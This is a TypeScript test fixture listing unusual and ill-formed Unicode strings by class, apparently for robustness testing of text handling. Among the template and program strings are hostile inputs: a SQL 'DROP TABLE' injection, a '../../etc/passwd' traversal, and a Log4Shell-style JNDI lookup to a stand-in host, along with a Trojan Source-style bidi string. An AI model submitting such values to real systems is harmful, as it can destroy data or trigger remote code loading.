/** The size of the longest value, in bytes of UTF-8. */
export const MAX_BYTES = 32 * 1024;

const range = (first: number, last: number): string[] =>
  Array.from({ length: last - first + 1 }, (_, index) => String.fromCodePoint(first + index));

/** Puts each character at the start, in the middle and at the end of a text, where different mistakes happen. */
const inText = (characters: readonly string[]): string[] => characters.map((odd) => `${odd}a${odd}b${odd}`);

// The plain space is in the class of white space. These are characters that trim() removes or that look like it.
const SPACES = [...' \u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f\u3000'];
const BIDI = [...'\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u206a\u206f'];
const INVISIBLE = [...'\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u2061\u2064\u3164\ufe00\ufe0f\uffa0\u{e0100}'];

/** Well-formed Unicode that software tends to change, drop or trip over, by class. None of it contains NUL. */
export const ODD_STRINGS: Readonly<Record<string, readonly string[]>> = {
  'plain and empty text': ['', 'a', '0', 'dynamic string', 'null', 'undefined', 'true', '[object Object]'],

  'line breaks': [
    '\r',
    '\n',
    '\r\n',
    '\n\r',
    '\r\r\n',
    '\r\n\r\n',
    '\n\n',
    'one\rtwo\r\nthree\nfour',
    '\r\nframed\r\n',
    'half a pair at the end\r',
    ...inText(['\u0085', '\u2028', '\u2029', '\v', '\f']),
  ],

  'white space': [
    '\t',
    '   ',
    '  leading',
    'trailing  ',
    'in  the   middle',
    '\t\ttabs\t',
    ' \n indented \n ',
    ...SPACES,
    ...inText(SPACES),
  ],

  'C0 controls and DEL': inText([...range(0x01, 0x1f), '\u007f']),
  'C1 controls': inText(range(0x80, 0x9f)),
  'every control at once': [[...range(0x01, 0x1f), ...range(0x7f, 0x9f)].join('')],

  'bidirectional controls': [
    ...inText(BIDI),
    '\u202egnirts\u202c',
    '\u2067\u2066\u2068never closed',
    '\u2069\u202cnever opened',
    'user\u202e}\u2066if (admin)\u2069 \u2066{',
  ],
  'right-to-left text': ['שלום', 'مرحبا بالعالم', 'abc אבג 123 דהו def', '(سلام)', 'ﷺ', 'ܐܒܓ ߒߞߏ'],
  'invisible characters': inText(INVISIBLE),
  'byte order marks': ['\ufeff', '\ufefftext', 'te\ufeffxt', 'text\ufeff', '\ufeff\ufeff', '\ufffetext', 'ï»¿text'],

  noncharacters: [
    ...inText(range(0xfdd0, 0xfdef)),
    ...range(0, 16).flatMap((_, plane) => inText(range(plane * 0x10000 + 0xfffe, plane * 0x10000 + 0xffff))),
  ],
  'specials and the replacement character': inText(['\ufff9', '\ufffa', '\ufffb', '\ufffc', '\ufffd']),

  'composed, decomposed and compatibility forms': [
    '\u00e9',
    'e\u0301',
    '\u212b \u00c5 A\u030a',
    '\u1e9b\u0323',
    '\uac00 \u1100\u1161',
    '\ufb01 fi',
    '\u2460 \u00b2 \u2126 \u212a \uff21 \uff76\uff9e',
    '\u0958 \u0915\u093c',
    '\uf900 \u8c48',
    '\u{2f800} \u4e3d',
    'a\u0315\u0300\u05ae\u0062',
    'ß SS \u1e9e İ ı ς σ',
  ],
  'combining marks': [
    '\u0301alone at the start',
    '\u0338',
    '\u20dd\u20e3',
    `Z${'\u0300\u0316\u0334\u0489'.repeat(50)}algo`,
    'क्षि నీ กำ ཧཱུྃ',
  ],

  emoji: [
    '😀',
    '👩‍👩‍👧‍👦',
    '👩🏽‍🚀',
    '🏳️‍🌈',
    '❤ ❤\ufe0e ❤\ufe0f',
    '1\ufe0f\u20e3',
    '🇨🇭🇺🇳',
    '🇨',
    '🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}',
    '\u{e0041}\u{e0001}a tag without its flag',
  ],
  'beyond the basic plane': ['𝒜𝔘𝟘', '𠀋𪚥', '𐍈𓀀𝄞', '\u{10000}', '\u{1ffff}', '\u{10ffff}', 'x\u{10ffff}'],
  'private use and unassigned': inText([
    '\ue000',
    '\uf8ff',
    '\u{f0000}',
    '\u{10fffd}',
    '\u0378',
    '\u{e0fff}',
    '\u{50000}',
  ]),
  'neighbours of the surrogates': inText(['\ud7ff', '\ue000', '\ud7fb']),

  'characters with a meaning in HTML': [
    ...'<>&"\'`=/',
    '&amp;',
    '&amp;amp;',
    '&lt;b&gt;',
    '&',
    '&;',
    '&#',
    '&#x',
    '&#13;',
    '&#xD;',
    '&#0;',
    '&#x80;',
    '&#xd800;',
    '&notit; &not &copy &nbsp;',
    '&CounterClockwiseContourIntegral;',
    '<!--',
    '-->',
    '<!-- a -- comment --!>',
    ']]>',
    '<![CDATA[x]]>',
    '<?xml version="1.0"?>',
    '<!doctype html>',
    '</h1>',
    '</title></style></script></textarea>',
    '</script>',
    '<br>',
    '<',
    '</',
    '<a',
    'a<b && c>d',
  ],
  'characters with a meaning in templates and programs': [
    '$&',
    "$1 $$ $` $' $<name>",
    '%s %d %n %00 %0d%0a %',
    `\${x}`,
    '{{x}} {x} <%= x %> #{x}',
    '\\u0041 \\x41 \\n \\r\\n \\0 \\',
    '\\',
    '"',
    '"""block"""',
    '\'; DROP TABLE "revisions"; --',
    '__proto__',
    '{"S":"x"}',
    '# comment',
    '../../etc/passwd',
    `\${jndi:ldap://elsewhere.invalid/x}`,
    '\u001b[31mred\u001b[0m',
  ],

  'strings of the maximum length': [
    'a'.repeat(MAX_BYTES),
    ' '.repeat(MAX_BYTES),
    '\r'.repeat(MAX_BYTES),
    '&'.repeat(MAX_BYTES),
    '\u0001'.repeat(MAX_BYTES),
    'é'.repeat(MAX_BYTES / 2),
    `a${'€'.repeat((MAX_BYTES - 2) / 3)}b`,
    '😀'.repeat(MAX_BYTES / 4),
  ],
};

/** Strings that can't be shown exactly: they are not Unicode text, or HTML can't express U+0000. */
export const ILL_FORMED_STRINGS: readonly string[] = [
  '\ud800',
  '\udbff',
  '\udc00',
  '\udfff',
  'at the end \ud83d',
  '\ude00 at the start',
  'in the \ud83d middle',
  'the wrong way round \ude00\ud83d',
  'one high too many \ud83d\ud83d\ude00',
  'one low too many \ud83d\ude00\ude00',
  '\0',
  '\0at the start',
  'in the \0 middle',
  'at the end\0',
  'both \0 and \ud800',
];
